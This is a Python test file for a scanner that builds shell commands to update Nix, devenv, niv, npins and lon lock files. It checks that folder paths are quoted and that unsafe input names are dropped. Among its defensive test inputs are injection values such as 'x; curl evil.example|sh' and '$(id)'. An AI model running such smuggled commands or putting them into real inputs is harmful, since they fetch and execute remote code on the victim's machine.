"""Commands to copy: whatever a lock calls its inputs and wherever it stands, a shell reads what we mean."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.parse.nix.lock import DEVENV, LON, NIV, NIX, NPINS, Tool
from scanner.parse.nix.remedies import folder_of, relock, update
from scanner.parse.shell import commands


@pytest.mark.parametrize(
    ("path", "name", "command"),
    [
        ("flake.lock", "", "`nix flake update`"),
        ("flake.lock", "nixpkgs", "`nix flake update nixpkgs`"),
        ("flake.lock", "a/b_2/c-d", "`nix flake update a/b_2/c-d`"),
        ("t/flake.lock", "nixpkgs", "`nix flake update nixpkgs --flake ./t`"),
        ("a/b.c/flake.lock", "", "`nix flake update --flake ./a/b.c`"),
        ("my dir/flake.lock", "nixpkgs", "`cd 'my dir' && nix flake update nixpkgs`"),
        # A flake reference ends at these signs, a path does not.
        ("a#b/flake.lock", "", "`cd 'a#b' && nix flake update`"),
        ("a?b/flake.lock", "", "`cd 'a?b' && nix flake update`"),
        ("-x y/flake.lock", "", "`cd './-x y' && nix flake update`"),
        ("it's/flake.lock", "", r"`cd 'it'\''s' && nix flake update`"),
        ("a`b/flake.lock", "x", "`nix flake update x` in the folder of the lock"),
        ("a\nb/flake.lock", "x", "`nix flake update x` in the folder of the lock"),
        # What Nix does not take for a name, and what would be more than a name.
        ("flake.lock", "x; curl evil.example|sh", "`nix flake update`"),
        ("flake.lock", "--commit-lock-file", "`nix flake update`"),
        ("flake.lock", "1st", "`nix flake update`"),
        ("flake.lock", "x.y", "`nix flake update`"),
        ("flake.lock", "$(id)", "`nix flake update`"),
    ],
)
def test_nix(path: str, name: str, command: str) -> None:
    assert update(NIX, path, name) == command


@pytest.mark.parametrize(
    ("path", "command"),
    [
        ("flake.lock", "`nix flake lock`"),
        ("t/flake.lock", "`nix flake lock ./t`"),
        ("my dir/flake.lock", "`cd 'my dir' && nix flake lock`"),
    ],
)
def test_lock_again(path: str, command: str) -> None:
    assert relock(NIX, path) == command


def test_other_tools() -> None:
    assert relock(DEVENV, "a/devenv.lock") == "`cd a && devenv update`"
    assert update(DEVENV, "a/devenv.lock", "x") == "`cd a && devenv update x`"
    assert update(NIV, "a b/nix/sources.json", "my pin") == "`cd 'a b' && niv update 'my pin'`"
    assert update(NPINS, "npins/sources.json", "-x") == "`npins update`"
    assert update(NPINS, "npins/sources.json", "x", frozen=True) == "`npins update --frozen x`"
    assert update(LON, "lon.lock", "x y", frozen=True) == "`lon unfreeze 'x y' && lon update 'x y'`"


NAMES = st.text(st.sampled_from("aA1 -_/.;|&$`'\"\\\n\t#?%(){}<>*~!=é"), max_size=12)


@given(st.sampled_from([NIX, DEVENV, NPINS, NIV, LON]), NAMES, NAMES, st.booleans())
def test_nothing_of_the_input_is_more_than_a_word(tool: Tool, folder: str, name: str, frozen: bool) -> None:
    path = f"{folder}/{tool.folder}/x.json" if tool.folder else f"{folder}/x.lock"
    for text in (update(tool, path, name, frozen=frozen), relock(tool, path)):
        assert text.count("`") == 2
        assert "\n" not in text
        _, command, rest = text.split("`")
        assert rest in ("", " in the folder of the lock")
        place = folder_of(tool, path)
        for found in commands(command):
            program, *words = found.texts
            if program == "cd":
                assert words in ([place], [f"./{place}"])
            else:
                assert program == tool.update[0]
                known = {*tool.update, "lock", "unfreeze", "--flake", "--frozen", f"./{place}", name}
                assert set(words) <= known
        assert len(list(commands(command))) == 1 + command.count(" && ")
